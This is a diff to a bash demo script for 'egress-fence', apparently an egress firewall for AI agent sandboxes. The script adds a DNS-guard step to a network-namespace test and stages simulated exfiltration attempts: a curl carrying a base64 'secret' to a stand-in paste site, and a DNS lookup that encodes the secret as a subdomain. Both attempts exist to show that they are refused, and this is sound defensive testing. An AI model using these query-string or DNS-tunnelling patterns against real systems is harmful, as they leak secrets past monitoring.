@@ -3,7 +3,9 @@
 # host) and "net" (the internet, with its own DNS server answering the shipped default
 # policy's names with a local test host, a paste site and a metadata service). The default
 # policy is applied in the sandbox, the table shown, an allowed and a refused connection made,
-# the refusal's NFLOG event shown, the table torn down and every namespace removed.
+# the refusal's NFLOG event shown; then the same policy in DNS guard mode (`egress-fence run`
+# as the sandbox's resolver) answers an allowed name and refuses a secret asked as a name,
+# which its upstream never hears; the table is torn down and every namespace removed.
 #
 # Nothing touches this machine's own network namespace. Run as root.
 set -euo pipefail
@@ -80,7 +82,7 @@ done
 records+=("--address=/paste.example.net/203.0.113.66")
 ip netns exec "$net" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
   --bind-interfaces --listen-address=192.0.2.53 --local=/#/ --user=root --group=root \
-  --pid-file= "${records[@]}" 2>"$tmp/dnsmasq.log" &
+  --log-queries --log-facility=- --pid-file= "${records[@]}" 2>"$tmp/dnsmasq.log" &
 pids+=($!)
 mkdir -p "/etc/netns/$sb" "$tmp/www"
 echo "nameserver 192.0.2.53" >"/etc/netns/$sb/resolv.conf"
@@ -111,7 +113,8 @@ step "4. The table, read back from the kernel"
 
 step "5. Connections from inside the boundary"
 "$bin" watch --netns "$sb" >"$tmp/watch.log" 2>&1 &
-pids+=($!)
+watch_pid=$!
+pids+=($watch_pid)
 sleep 0.3
 try "allowed: the model API" curl -sS --max-time 3 http://api.anthropic.com:443/
 try "refused: the paste site" curl -sS --max-time 3 "http://paste.example.net:443/?d=c2VjcmV0"
@@ -122,11 +125,48 @@ step "6. What was refused, as egress-fence watch reports it (NFLOG group 100)"
 sleep 0.3
 cat "$tmp/watch.log"
 
-step "7. Tear down: the table goes, nothing else is touched"
+# dig exits 0 on REFUSED too: show the status it got.
+ask() {
+  local what=$1
+  shift
+  printf -- '-- %s\n   $ %s\n' "$what" "$*"
+  local out
+  out=$(in_sb "$@" 2>&1 || true)
+  printf '   %s\n' "$(grep -m1 -oE 'status: [A-Z]+|connection timed out|communications error.*' <<<"$out" || echo "no answer")"
+}
+
+step "7. The DNS guard: the same policy with dns.mode guard, egress-fence run as the resolver"
+kill "$watch_pid" 2>/dev/null && wait "$watch_pid" 2>/dev/null || true
+{ cat policies/default.yaml; printf 'dns:\n  mode: guard\n  upstream: [192.0.2.53]\n'; } >"$tmp/guard.yaml"
+"$bin" check "$tmp/guard.yaml"
+echo "nameserver 127.0.0.53" >"/etc/netns/$sb/resolv.conf"
+"$bin" run "$tmp/guard.yaml" --netns "$sb" 2>"$tmp/guard.log" &
+guard_pid=$!
+pids+=($guard_pid)
+for _ in $(seq 100); do
+  grep -q "DNS guard is serving" "$tmp/guard.log" && break
+  sleep 0.1
+done
+"$bin" watch --netns "$sb" >"$tmp/watch.log" 2>&1 &
+pids+=($!)
+sleep 0.5
+try "allowed: the model API, its address learned from the guard's answer" \
+  curl -sS --max-time 3 http://api.anthropic.com:443/
+ask "refused: a secret asked as a DNS name" dig +tries=1 +time=2 c2VjcmV0.paste.example.net
+ask "refused: DNS straight to the upstream resolver, as the agent's user (not the guard's)" \
+  setpriv --reuid=65534 --regid=65534 --clear-groups dig +tries=1 +time=2 @192.0.2.53 example.com
+echo "-- the upstream resolver was asked for api.anthropic.com $(grep -ci 'query.*api\.anthropic\.com' "$tmp/dnsmasq.log") times,"
+echo "   for the secret name $(grep -ci 'c2VjcmV0' "$tmp/dnsmasq.log") times"
+sleep 0.3
+echo "-- egress-fence watch:"
+cat "$tmp/watch.log"
+kill "$guard_pid" && wait "$guard_pid" 2>/dev/null || true
+
+step "8. Tear down: the table goes, nothing else is touched"
 "$bin" teardown --netns "$sb"
 "$bin" status --netns "$sb" || true
 
-step "8. Remove the namespaces"
+step "9. Remove the namespaces"
 cleanup
 trap - EXIT
 echo "removed $sb and $net"
